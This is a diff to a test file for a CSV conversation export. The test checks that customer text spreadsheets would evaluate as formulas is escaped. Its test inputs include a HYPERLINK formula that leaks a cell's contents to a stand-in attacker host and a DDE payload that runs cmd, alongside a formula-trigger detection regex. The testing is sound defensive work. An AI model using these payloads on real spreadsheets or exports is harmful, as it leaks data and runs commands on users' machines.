@@ -10,7 +10,9 @@ import { auditEntriesSince, auditSize, conversationIdOf, newCustomerNumber, rece
 noteSkippedWhen(postgresUrl === undefined, 'conversation export on postgres', missingPostgresMessage);
 
 /** What customers can type that a spreadsheet would run, and ordinary text that must survive untouched. */
-const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturn', 'plain, with "quotes"\nand a line break'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturn', '  =SUM(1)', 'ok;@SUM(1)', 'plain, with "quotes"\nand a line break'];
+/** What a spreadsheet could evaluate: a trigger first, also after spaces and control characters (written apart from the code under test). */
+const looksLikeFormula = (cell: string) => /^[\s\u0000-\u001f]*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);
 
 for (const dialect of dialects) {
   describe.skipIf(!dialect.isAvailable)(`conversation export on ${dialect.name}`, () => {
@@ -67,8 +69,10 @@ for (const dialect of dialects) {
       const [header, ...rows] = parseCsv(response.body.replace(/^\uFEFF/, ''));
       expect(header).toEqual(['conversation', 'contact_name', 'contact_phone', 'sent_at', 'direction', 'type', 'status', 'sent_by', 'summary', 'text']);
       expect(rows).toHaveLength(HOSTILE.length);
-      for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
-      expect(rows.map((row) => row[9])).toEqual(HOSTILE.map((text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)));
+      for (const cell of rows.flat()) expect(looksLikeFormula(cell), JSON.stringify(cell)).toBe(false);
+      expect(rows.map((row) => row[9])).toEqual(HOSTILE.map((text) => (looksLikeFormula(text) ? `'${text}` : text)));
+      // A locale that splits on ; must find the cell quoted.
+      expect(response.body).toContain('"ok;@SUM(1)"');
       expect(rows[0]![1]).toBe("'=cmd|Mallory");
       expect(rows[0]![2]).toBe(`'+${customer}`);
       expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for refund"")"`);
